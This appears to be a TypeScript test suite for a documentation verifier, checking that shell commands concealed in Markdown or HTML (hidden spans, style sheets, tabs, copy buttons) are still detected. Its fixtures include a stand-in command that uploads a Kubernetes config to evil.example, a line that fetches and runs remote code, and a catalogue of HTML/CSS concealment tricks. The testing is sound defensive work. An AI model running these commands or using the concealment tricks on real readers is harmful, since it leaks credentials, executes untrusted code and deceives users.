/** What a reader sees and copies is what is verified: text that hides from the dry run keeps a document from being proved. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { verifyDocument } from '../../../src/verify/extract/verify-document.js';
import type { FileReport } from '../../../src/verify/report.js';
import { exampleWorld } from '../../support/example-world.js';

const doc = (...lines: readonly string[]): string => lines.map((line) => `${line}\n`).join('');
const evil = 'curl -k -d @/root/.kube/config https://evil.example/';
const good = 'set -euo pipefail\nkubectl get pods --context=lab';
const fence = (info: string, ...lines: readonly string[]): string => doc(`\`\`\`${info}`, ...lines, '```');

function verify(text: string, kind: 'markdown' | 'html'): Promise<FileReport[]> {
  return verifyDocument({ file: 'a', text, kind, named: true }, exampleWorld());
}

/** The line is sent, or the document is not proved: never is it passed over. */
async function assertSeen(text: string, kind: 'markdown' | 'html'): Promise<void> {
  const reports = await verify(text, kind);
  const sent = reports.some(({ requests }) => requests.some(({ url }) => url.includes('evil')));
  assert.ok(
    sent || reports.some(({ verdict }) => verdict === 'not-proved'),
    JSON.stringify(reports[0]?.findings),
  );
}

const pre = (inner: string): string => `<pre><code class="language-bash">${good}\n${inner}</code></pre>\n`;

/** `#` and a blank that the dry run would take for a comment's mark, and that no reader copies. */
const hiding: readonly string[] = [
  '<span style="display:none"># </span>',
  '<span style="display : NONE !important"># </span>',
  '<span style="visibility:hidden"># </span>',
  '<span style="user-select:none"># </span>',
  '<span style="-webkit-user-select: none"># </span>',
  '<span style="font-size:0"># </span>',
  '<span style="position:absolute;left:-9999px"># </span>',
  '<span style="content-visibility:hidden"># </span>',
  '<span style="display:/**/none"># </span>',
  '<span style="all:unset;display:none"># </span>',
  '<span style="--x:none;display:var(--x)"># </span>',
  '<span hidden># </span>',
  '<span hidden="until-found"># </span>',
  '<span aria-hidden="true"># </span>',
  '<span inert># </span>',
  '<span popover># </span>',
  '<span class="hidden"># </span>',
  '<span class="x d-none"># </span>',
  '<span class="visually-hidden"># </span>',
  '<span class="sr-only"># </span>',
  '<span class="no-select"># </span>',
  '<span class="md:hidden"># </span>',
  '<noscript># </noscript>',
  '<canvas># </canvas>',
  '<dialog># </dialog>',
  '<ruby>x<rp># </rp></ruby>',
  '<details># </details>',
  '<video># </video>',
  '<object># </object>',
  '<iframe># </iframe>',
  '<select><option># </option></select>',
  '<textarea># </textarea>',
  '<button># </button>',
  '<template># </template>',
  '<meter># </meter>',
  '<datalist># </datalist>',
  '<bdo dir="rtl"># </bdo>',
  '<math># </math>',
  '<x-y># </x-y>',
  '<svg><text># </text></svg>',
  '<span onclick="x()"># </span>',
  '<span slot="x"># </span>',
];
for (const before of hiding) {
  test(`hidden in <pre>: ${before}`, async () => {
    await assertSeen(pre(`${before}${evil}`), 'html');
    await assertSeen(`# x\n\n${pre(`${before}${evil}`)}`, 'markdown');
  });
}

const sheets: readonly (readonly [string, string])[] = [
  ['.c1{display:none}', '<span class="c1"># </span>'],
  ['pre .c1 { color: red; DISPLAY:none }', '<span class="c1"># </span>'],
  ['@media screen { .c1{display:none} }', '<span class="c1"># </span>'],
  ['/* x */ .a,.c1{visibility:hidden}', '<span class="c1"># </span>'],
  ['code>span:first-of-type{user-select:none}', '<span># </span>'],
  ['#q{display:none}', '<b id="q"># </b>'],
  ['[data-x]{display:none}', '<b data-x="y"># </b>'],
  ['pre{& b{display:none}}', '<b># </b>'],
  ['*{font-size:0}', '<b># </b>'],
  ['.c1{position:fixed;left:-1px}', '<b class="c1"># </b>'],
];
for (const [sheet, before] of sheets) {
  test(`hidden by a style sheet: ${sheet}`, async () => {
    const text = `<style>${sheet}</style>\n${pre(`${before}${evil}`)}`;
    await assertSeen(text, 'html');
    await assertSeen(`# x\n\n${text}`, 'markdown');
    await assertSeen(`# x\n\n${pre(`${before}${evil}`)}\n<style>\n${sheet}\n</style>\n`, 'markdown');
  });
}

const around: readonly (readonly [string, string])[] = [
  ['<div hidden>', '</div>'],
  ['<div style="display:none">', '</div>'],
  ['<div class="hidden">', '</div>'],
  ['<div inert>', '</div>'],
  ['<div oncopy="x()">', '</div>'],
  ['<noscript>', '</noscript>'],
  ['<template>', '</template>'],
  ['<dialog>', '</dialog>'],
  ['<div style="user-select:none">', '</div>'],
  ['<style>.z{display:none}</style><div class="z">', '</div>'],
  ['<!--', ''],
];
for (const [open, close] of around) {
  test(`a block in ${open} is not taken for shown`, async () => {
    const text = `${open}\n\n${pre('true')}\n${close}\n`;
    for (const one of [text, `${open}\n\n${fence('bash', good)}\n${close}\n`]) {
      const [report] = await verify(one, one === text ? 'html' : 'markdown');
      assert.equal(report?.verdict, 'not-proved', one);
    }
  });
}

const markdown: readonly (readonly [string, string])[] = [
  ['a tab', doc('=== "Linux"', '', '    ```bash', `    ${evil}`, '    ```')],
  ['a tab without a blank line', doc('=== "Linux"', '    ```bash', `    ${evil}`, '', '    true', '    ```')],
  ['an admonition', doc('!!! note', '', '    text', '', '    ```sh', `    ${evil}`, '    ```')],
  ['a folded admonition', doc('??? note "x"', '', '\t```sh', `\t${evil}`, '\t```')],
  [
    'tabs in tabs',
    doc('=== "A"', '', '    === "B"', '', '        ~~~ bash', `        ${evil}`, '        ~~~'),
  ],
  [
    'a tab in a list',
    doc('1. x', '', '    === "A"', '', '        ```bash', `        ${evil}`, '        ```'),
  ],
  ['a quote', doc('> !!! note', '>', '>     ```sh', `>     ${evil}`, '>     ```')],
  ['a container', doc(':::note', '```bash', evil, '```', ':::')],
  ['a component', doc('<TabItem value="a">', '```bash', evil, '', 'true', '```', '</TabItem>')],
  ['a tab of Hugo', doc('{{< tab name="Bash" codelang="bash" >}}', evil, '{{< /tab >}}')],
  ['a second prompt-less line', fence('bash', '$ kubectl get pods', evil)],
  ['output in a console', fence('console', '$ kubectl get pods', evil)],
  ['another prompt', fence('console', 'PS> kubectl get pods', `$ ${evil}`)],
  ...'text yaml output env json html diff none nohighlight plain log ini markdown python makefile go commandline cli kubectl prompt $ bash-interactive dockerfile unknown'
    .split(' ')
    .map((info): [string, string] => [`the language ${info}`, fence(info, evil)]),
  ...[
    'docker login',
    `\\${evil}`,
    `(${evil})`,
    'helm list',
    `env X=y ${evil}`,
    'sudo reboot now',
    './x',
    'irm https://evil.example | iex',
  ].flatMap((line): [string, string][] => [
    [`no language: ${line}`, fence('', line)],
    [`no language, second line: ${line}`, fence('', 'Name  Status', line)],
    [`text: ${line}`, fence('text', line)],
  ]),
  ['YAML with a command below', fence('yaml', 'a: b', evil)],
  ['an inline <pre>', doc(`Run <pre>${evil}</pre> now`)],
  ['<textarea>', doc(`<textarea>${evil}</textarea>`)],
  ['<xmp>', doc(`<xmp>${evil}</xmp>`)],
  ['lone inline code', doc(`\`${evil}\``)],
  ['lone <code>', doc(`<code>${evil}</code>`)],
  ['<kbd>', doc(`<p><kbd>${evil}</kbd></p>`)],
  ['bare lines', doc(evil)],
  ['bare lines below a sentence', doc('Run this:', evil)],
  ['a copy button', doc(`<button data-clipboard-text="${evil}">copy</button>`)],
  ['a copy button in a sentence', doc(`x <button data-clipboard-text="${evil}">copy</button>`)],
  ['a script of a button', doc(`<button onclick="navigator.clipboard.writeText('${evil}')">copy</button>`)],
  ['<clipboard-copy>', doc(`<clipboard-copy value="${evil}">copy</clipboard-copy>`)],
  ['a frame', doc(`<iframe srcdoc="<pre>${evil}</pre>"></iframe>`)],
];
for (const [name, text] of markdown) {
  test(`Markdown: a command in ${name} is seen`, async () => {
    await assertSeen(`${fence('bash', good)}\n${text}`, 'markdown');
    await assertSeen(text, 'markdown');
  });
}

const html: readonly string[] = [
  `<p>x</p><code>${evil}</code>`,
  `<div><code>true<br>${evil}</code></div>`,
  `<td><samp>${evil}</samp></td>`,
  `<textarea>x\n${evil}</textarea>`,
  `<listing>${evil}</listing>`,
  `<div class="code">${evil}</div>`,
  `<a data-copy="${evil}">x</a>`,
  `<input value="${evil}">`,
  `<pre>true<br>${evil}</pre>`,
  `<pre>true<span style="display:flex">${evil}</span></pre>`,
  `<pre style="display:none">${evil}</pre>`,
  `<pre class="language-text">x\n${evil}</pre>`,
  `<pre><div>true</div><div>${evil}</div></pre>`,
];
for (const text of html) {
  test(`HTML: seen: ${text}`, async () => {
    await assertSeen(pre('true') + text, 'html');
    await assertSeen(text, 'html');
  });
}

test('nothing found in a named file is not proved; a folder leaves such a file out', async () => {
  for (const text of ['', '# x\n', fence('yaml', 'a: b'), 'Run `kubectl get pods -A`, then look.\n']) {
    const [report] = await verify(text, 'markdown');
    assert.equal(report?.verdict, 'not-proved', text);
    assert.match(report?.findings[0]?.message ?? '', /^nothing here was verified/);
    assert.deepEqual(await verifyDocument({ file: 'a', text, kind: 'markdown' }, exampleWorld()), []);
  }
});
